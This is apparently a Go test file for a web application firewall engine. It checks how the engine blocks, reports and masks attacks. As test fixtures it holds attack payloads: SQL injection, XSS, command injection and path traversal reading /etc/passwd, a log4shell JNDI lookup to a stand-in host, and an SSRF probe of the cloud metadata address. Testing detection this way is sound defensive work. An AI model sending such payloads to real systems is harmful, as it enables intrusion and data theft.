package waf_test

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/edgefleet/edgefleet/edgenode/waf"
	"github.com/edgefleet/edgefleet/fleet"
	"github.com/edgefleet/edgefleet/fleet/request"
	"github.com/edgefleet/edgefleet/fleet/rules"
	"github.com/edgefleet/edgefleet/observability"
)

// engine is compiled once: that is how it is used. telemetry is what it emits through.
var (
	engine    = sync.OnceValues(func() (*waf.Engine, error) { return waf.NewEngine(waf.Options{Telemetry: telemetry}) })
	telemetry = observability.Discard()
)

func newEngine(t testing.TB) *waf.Engine {
	t.Helper()
	e, err := engine()
	if err != nil {
		t.Fatal(err)
	}
	return e
}

type sent struct {
	method, uri, contentType, body string
	headers                        map[string]string
}

func (s sent) input(mode fleet.Mode) waf.Input {
	h := http.Header{"User-Agent": {"Mozilla/5.0"}, "Accept": {"*/*"}}
	if s.method == "" {
		s.method = "GET"
	}
	if s.body != "" {
		h.Set("Content-Type", s.contentType)
	}
	for k, v := range s.headers {
		h.Set(k, v)
	}
	r := request.Parse(request.Input{
		Method: s.method, Scheme: "https", Proto: "HTTP/1.1", Host: "shop.example.com", URI: s.uri, Header: h, Body: []byte(s.body),
	}, request.Limits{})
	return waf.Input{Tenant: "acme", Host: "shop.example.com", Mode: mode, Request: r, ClientAddr: netip.MustParseAddrPort("192.0.2.7:4711")}
}

const form = "application/x-www-form-urlencoded"

var sqli = sent{uri: "/?q=" + url.QueryEscape("' OR 1=1--")}

func types(d waf.Decision) []fleet.AttackType {
	var kinds []fleet.AttackType
	for _, e := range d.Events {
		kinds = append(kinds, e.Type)
	}
	return kinds
}

func TestTheModeDecidesWhatHappensToAnAttack(t *testing.T) {
	e := newEngine(t)
	for _, test := range []struct {
		mode             fleet.Mode
		malicious, block bool
		status           fleet.BlockStatus
	}{
		{fleet.ModeOff, false, false, ""},
		{fleet.ModeMonitoring, true, false, fleet.Monitored},
		{fleet.ModeBlock, true, true, fleet.Blocked},
	} {
		d := e.Judge(t.Context(), sqli.input(test.mode))
		if d.EngineError != nil || d.Malicious != test.malicious || d.Block != test.block {
			t.Errorf("%s: %+v", test.mode, d)
		}
		if test.status == "" {
			continue
		}
		if diff := cmp.Diff([]fleet.AttackType{fleet.AttackSQLi}, types(d)); diff != "" {
			t.Errorf("%s: %s", test.mode, diff)
		}
		if d.Events[0].Status != test.status || d.Events[0].Mode != test.mode {
			t.Errorf("%s: status %s, mode %s", test.mode, d.Events[0].Status, d.Events[0].Mode)
		}
	}
}

// Arguments behind the thousandth are not inspected.
func TestAThousandArgumentsHideNoAttack(t *testing.T) {
	e := newEngine(t)
	many := strings.Repeat("a=1&", 1100)
	for name, test := range map[string]struct {
		sent  sent
		block bool
	}{
		"a query":            {sent{uri: "/?" + many}, true},
		"a form":             {sent{method: "POST", uri: "/", contentType: form, body: many}, true},
		"both":               {sent{method: "POST", uri: "/?" + many, contentType: form, body: many}, true},
		"a query, with json": {sent{method: "POST", uri: "/?" + many, contentType: "application/json", body: `{"a":1}`}, true},
		"a long list":        {sent{method: "POST", uri: "/", contentType: "application/json", body: "[" + strings.Repeat("1,", 1100) + "1]"}, false},
		"a large form":       {sent{method: "POST", uri: "/", contentType: form, body: strings.Repeat("a=1&", 900)}, false},
	} {
		t.Run(name, func(t *testing.T) {
			d := e.Judge(t.Context(), test.sent.input(fleet.ModeBlock))
			if d.Block != test.block || d.EngineError != nil {
				t.Fatalf("block %t, want %t: %v, %v", d.Block, test.block, types(d), d.EngineError)
			}
			if test.block && (len(d.Events) != 1 || len(d.Events[0].Rules) != 1 || !strings.HasPrefix(d.Events[0].Rules[0].Message, "Too many arguments")) {
				t.Errorf("events %+v", d.Events)
			}
		})
	}
}

// An attacker makes a body longer than what is inspected; the beginning of it is judged all the same.
func TestPaddingHidesNoAttackBeforeIt(t *testing.T) {
	e := newEngine(t)
	const attack = "<script>alert(document.cookie)</script>"
	padding := strings.Repeat("a", 1<<10)
	for name, test := range map[string]struct {
		contentType, body string
		block             bool
	}{
		"a field of a form":     {form, "q=" + url.QueryEscape(attack) + "&p=" + padding, true},
		"a field of json":       {"application/json", `{"q":"` + attack + `","p":"` + padding, true},
		"the text that is long": {"application/json; charset=utf-8", `{"q":"` + attack + padding, true},
		"a text with encodings": {"application/json", `{"q":"\"` + attack + "%2541" + padding, true},
		"a type that is json":   {"application/vnd.api+json", `[{"q":"` + attack + `"},"` + padding, true},
		"no attack":             {"application/json", `{"q":"hello","p":"` + padding, false},
	} {
		t.Run(name, func(t *testing.T) {
			in := sent{method: "POST", uri: "/", contentType: test.contentType, body: test.body}.input(fleet.ModeBlock)
			raw := in.Request.Input()
			raw.Truncated = true
			in.Request = request.Parse(raw, request.Limits{})
			d := e.Judge(t.Context(), in)
			if d.Block != test.block || d.EngineError != nil {
				t.Errorf("block %t, want %t: %v, %v", d.Block, test.block, types(d), d.EngineError)
			}
			for _, ev := range d.Events {
				if strings.Contains(strings.Join(ev.Payloads, ""), "script") && test.contentType != form {
					t.Errorf("a part of a body that was not parsed to its end left: %q", ev.Payloads)
				}
			}
		})
	}
}

func TestAnEventSaysWhatWhereAndWho(t *testing.T) {
	d := newEngine(t).Judge(t.Context(), sqli.input(fleet.ModeBlock))
	if len(d.Events) != 1 {
		t.Fatalf("%d events", len(d.Events))
	}
	got := d.Events[0]
	if len(got.Rules) == 0 || !slices.ContainsFunc(got.Rules, func(r fleet.MatchedRule) bool {
		return r.ID == "942100" && r.Message == "SQL Injection Attack Detected via libinjection" && r.Severity == "critical"
	}) {
		t.Errorf("rules: %v", got.Rules)
	}
	if got.Score < 5 {
		t.Errorf("score %d", got.Score)
	}
	got.Rules, got.Score = nil, 0
	want := fleet.Event{
		Tenant: "acme", Host: "shop.example.com", Type: fleet.AttackSQLi, Mode: fleet.ModeBlock, Status: fleet.Blocked,
		Point: "get.q", Parameter: "q", Payloads: []string{"' OR 1=1--"}, Method: "GET", Path: "/", Protocol: "HTTP/1.1",
		ClientIP: "192.0.2.7", ClientPort: 4711,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestNormalRequestsAreNotMalicious(t *testing.T) {
	multipart := "--b\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"report.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF\r\n--b--\r\n"
	for name, s := range map[string]sent{
		"a page":          {uri: "/blogs/123/index.php?q=hello+world&page=2"},
		"a json post":     {method: "POST", uri: "/api/v1/orders", contentType: "application/json", body: `{"user":"bob","items":[{"id":1,"name":"blue shirt"}],"note":"leave at the door"}`},
		"a login":         {method: "POST", uri: "/login", contentType: form, body: "user=bob&password=S3cr%26t%21&token=eyJhbGciOi"},
		"an upload":       {method: "POST", uri: "/upload", contentType: "multipart/form-data; boundary=b", body: multipart},
		"an api delete":   {method: "DELETE", uri: "/api/v1/orders/7"},
		"a beacon":        {method: "POST", uri: "/beacon", contentType: "text/plain", body: `{"event":"click","x":12}`},
		"with a referer":  {uri: "/", headers: map[string]string{"Referer": "https://www.example.org/search?q=shirts"}},
		"with a session":  {uri: "/", headers: map[string]string{"Cookie": "SID=8f14e45fceea167a5a36dedd4bea2543; theme=dark"}},
		"with a sensible": {uri: "/", headers: map[string]string{"Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.e30.abc"}},
	} {
		d := newEngine(t).Judge(t.Context(), s.input(fleet.ModeBlock))
		if d.Block || d.Malicious || len(d.Events) > 0 || d.EngineError != nil {
			t.Errorf("%s: %+v", name, d)
		}
	}
}

func TestAttacksOfEachKindAreFoundWhereTheyAre(t *testing.T) {
	for name, test := range map[string]struct {
		sent  sent
		kind  fleet.AttackType
		point string
	}{
		"xss in a form":              {sent{method: "POST", uri: "/", contentType: form, body: "c=" + url.QueryEscape("<script>alert(1)</script>")}, fleet.AttackXSS, "post.form_urlencoded.c"},
		"sqli in json":               {sent{method: "POST", uri: "/", contentType: "application/json", body: `{"a":{"b":["x","1' or '1'='1"]}}`}, fleet.AttackSQLi, "post.json_doc.hash.a.hash.b.array.1"},
		"sqli in json called text":   {sent{method: "POST", uri: "/", contentType: "text/plain", body: `{"a":"1' or '1'='1' -- "}`}, fleet.AttackSQLi, "post.json_doc.hash.a"},
		"a command in a cookie":      {sent{uri: "/", headers: map[string]string{"Cookie": "lang=;cat /etc/passwd; x=$(cat /etc/passwd)"}}, fleet.AttackPTrav, ""},
		"path traversal":             {sent{uri: "/?file=../../../../etc/passwd"}, fleet.AttackPTrav, "get.file"},
		"path traversal in the path": {sent{uri: "/static/..%2f..%2f..%2fetc/passwd"}, fleet.AttackPTrav, "uri"},
		"log4shell in a header":      {sent{uri: "/", headers: map[string]string{"X-Api-Version": "${jndi:ldap://evil.example/a}"}}, fleet.AttackRCE, "header.X-API-VERSION"},
		"a scanner":                  {sent{uri: "/", headers: map[string]string{"User-Agent": "sqlmap/1.5"}}, fleet.AttackScanner, "header.USER-AGENT"},
		"ssrf":                       {sent{uri: "/?u=http://169.254.169.254/latest/meta-data/"}, fleet.AttackSSRF, "get.u"},
		"broken json":                {sent{method: "POST", uri: "/", contentType: "application/json", body: `{"a":`}, fleet.AttackProtocol, ""},
	} {
		t.Run(name, func(t *testing.T) {
			d := newEngine(t).Judge(t.Context(), test.sent.input(fleet.ModeBlock))
			if !d.Block {
				t.Errorf("not blocked: %+v", d)
			}
			i := slices.Index(types(d), test.kind)
			if i < 0 {
				t.Fatalf("types %v, want %s", types(d), test.kind)
			}
			if test.point != "" && d.Events[i].Point != test.point {
				t.Errorf("point %s, want %s (rules %v)", d.Events[i].Point, test.point, d.Events[i].Rules)
			}
		})
	}
}

func ownRules(t *testing.T, specs ...fleet.RuleSpec) *rules.Set {
	t.Helper()
	var bundle []fleet.BundleRule
	for i, s := range specs {
		bundle = append(bundle, fleet.BundleRule{ID: fleet.RuleID("r" + string(rune('1'+i))), Spec: s})
	}
	set, err := rules.Compile(bundle)
	if err != nil {
		t.Fatal(err)
	}
	return set
}

func TestATenantsRuleBlocksAndAnExperimentalOneReports(t *testing.T) {
	own := fleet.RuleSpec{Kind: fleet.RuleRegex, Pattern: `forbidden-\d+`, AttackType: fleet.AttackCustom, Comment: "no such thing"}
	in := sent{uri: "/?a=forbidden-7"}.input(fleet.ModeBlock)
	in.Rules = ownRules(t, own)
	d := newEngine(t).Judge(t.Context(), in)
	if !d.Block || !d.Malicious || len(d.Events) != 1 {
		t.Fatalf("%+v", d)
	}
	if diff := cmp.Diff([]fleet.MatchedRule{{ID: "r1", Message: "no such thing", Severity: "critical"}}, d.Events[0].Rules); diff != "" {
		t.Error(diff)
	}

	own.Experimental = true
	in.Rules = ownRules(t, own)
	d = newEngine(t).Judge(t.Context(), in)
	if d.Block || d.Malicious || len(d.Events) != 1 || d.Events[0].Status != fleet.Monitored {
		t.Errorf("experimental: %+v", d)
	}
}

func TestNoSecretIsInAnEvent(t *testing.T) {
	const password, token, session = "hunter2&Geheim", "tok-9f8e7d6c", "sess4242abcd"
	attack := url.QueryEscape("' OR 1=1--")
	secrets := url.Values{"password": {password}, "token": {token}}.Encode()
	quoted, err := json.Marshal(map[string]string{"q": "' OR 1=1--", "password": password, "token": token, "again": "my " + password})
	if err != nil {
		t.Fatal(err)
	}
	own := ownRules(t,
		fleet.RuleSpec{Kind: fleet.RuleRegex, Pattern: `(?s).*`, Point: fleet.Point{{"post"}}, AttackType: fleet.AttackXSS},
		fleet.RuleSpec{Kind: fleet.RuleRegex, Pattern: `(?s).*`, Point: fleet.Point{{"uri"}}, AttackType: fleet.AttackRCE},
		fleet.RuleSpec{Kind: fleet.RuleRegex, Pattern: `hunte`, AttackType: fleet.AttackSSI},
		fleet.RuleSpec{Kind: fleet.RuleRegex, Pattern: `.*`, Point: fleet.Point{{"header", "COOKIE"}}, AttackType: fleet.AttackSSTI},
		fleet.RuleSpec{Kind: fleet.RuleRegex, Pattern: `unter`, Point: fleet.Point{{"header", "REFERER"}}, AttackType: fleet.AttackRedir},
	)
	for name, s := range map[string]sent{
		"query":     {uri: "/reset/" + url.PathEscape(password) + "?q=" + attack + "&" + secrets},
		"form":      {method: "POST", uri: "/x?copy=" + url.QueryEscape(password), contentType: form, body: "q=" + attack + "&" + secrets},
		"json":      {method: "POST", uri: "/", contentType: "application/json", body: string(quoted)},
		"broken":    {method: "POST", uri: "/?q=" + attack, contentType: "application/json", body: string(quoted[:len(quoted)-1])},
		"as text":   {method: "POST", uri: "/?q=" + attack, contentType: "text/plain", body: string(quoted)},
		"in secret": {uri: "/?password=" + url.QueryEscape(password+"' OR 1=1--") + "&token=" + token},
		"multipart": {
			method: "POST", uri: "/?q=" + attack, contentType: "multipart/form-data; boundary=b",
			body: "--b\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\n" + password + "\r\n--b\r\nContent-Disposition: form-data; name=\"token\"\r\n\r\n" + token + "\r\n--b--\r\n",
		},
		"smuggled": {uri: "/?q=" + attack + "&" + secrets, headers: map[string]string{"User-Agent": "sqlmap " + password, "X-Note": "' OR 1=1-- " + token}},
	} {
		t.Run(name, func(t *testing.T) {
			if s.headers == nil {
				s.headers = map[string]string{}
			}
			s.headers["Cookie"] = "SID=" + session
			s.headers["Referer"] = "https://shop.example.com/?" + secrets
			in := s.input(fleet.ModeBlock)
			in.Rules = own
			d := newEngine(t).Judge(t.Context(), in)
			if !d.Block || len(d.Events) == 0 || d.EngineError != nil {
				t.Fatalf("%+v", d)
			}
			b, err := json.Marshal(d.Events)
			if err != nil {
				t.Fatal(err)
			}
			out := strings.ToLower(string(b))
			for _, secret := range []string{password, url.QueryEscape(password), "hunter2", "geheim", token, session} {
				if strings.Contains(out, strings.ToLower(secret)) {
					t.Errorf("%q is in %s", secret, b)
				}
			}
			for _, e := range d.Events {
				if len(e.MaskedPoints) == 0 {
					t.Errorf("no masked points in %+v", e)
				}
			}
		})
	}
}

func TestMessagesAreFixedText(t *testing.T) {
	d := newEngine(t).Judge(t.Context(), sent{uri: "/?q=" + url.QueryEscape("' OR 1=1--"), headers: map[string]string{"Proxy": "evil-value", "X-Http-Method": "evil-value"}}.input(fleet.ModeBlock))
	found := false
	for _, e := range d.Events {
		for _, r := range e.Rules {
			found = found || r.Message == "HTTP header is restricted by policy"
			if r.Message == "" || strings.Contains(r.Message, "proxy") || strings.Contains(r.Message, "%{") {
				t.Errorf("rule %s has the message %q", r.ID, r.Message)
			}
		}
	}
	if !found {
		t.Errorf("the rule with a value in its message did not match: %+v", d.Events)
	}
}

func TestALargeBodyPassesAndItsBeginningIsInspected(t *testing.T) {
	big := `{"a":"` + strings.Repeat("lorem ipsum ", 20_000) + `"}`
	if d := newEngine(t).Judge(t.Context(), sent{method: "POST", uri: "/", contentType: "application/json", body: big}.input(fleet.ModeBlock)); d.Malicious || d.EngineError != nil {
		t.Errorf("a large body: %+v", d)
	}
	attack := sent{method: "POST", uri: "/", contentType: form, body: "q=" + url.QueryEscape("' OR 1=1--") + "&a=" + strings.Repeat("x", 200_000)}
	if d := newEngine(t).Judge(t.Context(), attack.input(fleet.ModeBlock)); !d.Block {
		t.Errorf("an attack before the limit: %+v", d)
	}
}

func TestAPanicIsFencedToTheRequest(t *testing.T) {
	in := sqli.input(fleet.ModeBlock)
	in.Request = nil // what no caller does: the engine dereferences it
	in.Rules = ownRules(t, fleet.RuleSpec{Kind: fleet.RuleRegex, Pattern: "a", AttackType: fleet.AttackCustom})
	d := newEngine(t).Judge(t.Context(), in)
	if d.Block || d.EngineError == nil || !strings.Contains(d.EngineError.Error(), "panicked") {
		t.Errorf("%+v", d)
	}
	if d := newEngine(t).Judge(t.Context(), sqli.input(fleet.ModeBlock)); !d.Block {
		t.Errorf("the next request: %+v", d)
	}
	if diff := telemetry.Undeclared(); len(diff) > 0 {
		t.Error(diff)
	}
	shown := httptest.NewRecorder()
	telemetry.Handler().ServeHTTP(shown, httptest.NewRequest(http.MethodGet, "/metrics", http.NoBody))
	if !strings.Contains(shown.Body.String(), `edgefleet_waf_errors_total{reason="panic_crs",tenant="acme"} 1`) {
		t.Error("the panic is not counted")
	}
}

func TestABusyEngineLetsTheRequestPassAtItsDeadline(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	e, err := waf.NewEngine(waf.Options{Concurrency: 1})
	if err != nil {
		t.Fatal(err)
	}
	// The slot is taken by a request whose judging waits for the other one.
	slow := sent{method: "POST", uri: "/", contentType: form, body: strings.Repeat("a=lorem ipsum dolor&", 60)}.input(fleet.ModeBlock)
	var wg sync.WaitGroup
	started := make(chan struct{})
	wg.Go(func() {
		close(started)
		for ctx.Err() == nil {
			e.Judge(context.WithoutCancel(ctx), slow)
		}
	})
	<-started
	ended, end := context.WithCancel(t.Context())
	end()
	for {
		// With its deadline behind it a request is judged only when a slot is free at once.
		if d := e.Judge(ended, sqli.input(fleet.ModeBlock)); d.EngineError != nil {
			if d.Block || !errors.Is(d.EngineError, fleet.ErrTimeout) {
				t.Errorf("%+v", d)
			}
			break
		}
	}
	cancel()
	wg.Wait()
}

func TestOptionsOutOfRangeAreRefused(t *testing.T) {
	for _, o := range []waf.Options{{ParanoiaLevel: 5}, {AnomalyThreshold: -1}, {BodyLimit: 1}, {Concurrency: -1}} {
		if _, err := waf.NewEngine(o); !errors.Is(err, fleet.ErrInvalid) {
			t.Errorf("%+v: %v", o, err)
		}
	}
}

func BenchmarkJudge(b *testing.B) {
	e := newEngine(b)
	for name, s := range map[string]sent{
		"get":    {uri: "/blogs/123/index.php?q=hello+world&page=2"},
		"json":   {method: "POST", uri: "/", contentType: "application/json", body: `{"user":"bob","items":[{"id":1,"name":"blue shirt"}]}`},
		"attack": sqli,
	} {
		b.Run(name, func(b *testing.B) {
			in := s.input(fleet.ModeBlock)
			for b.Loop() {
				e.Judge(b.Context(), in)
			}
		})
	}
}
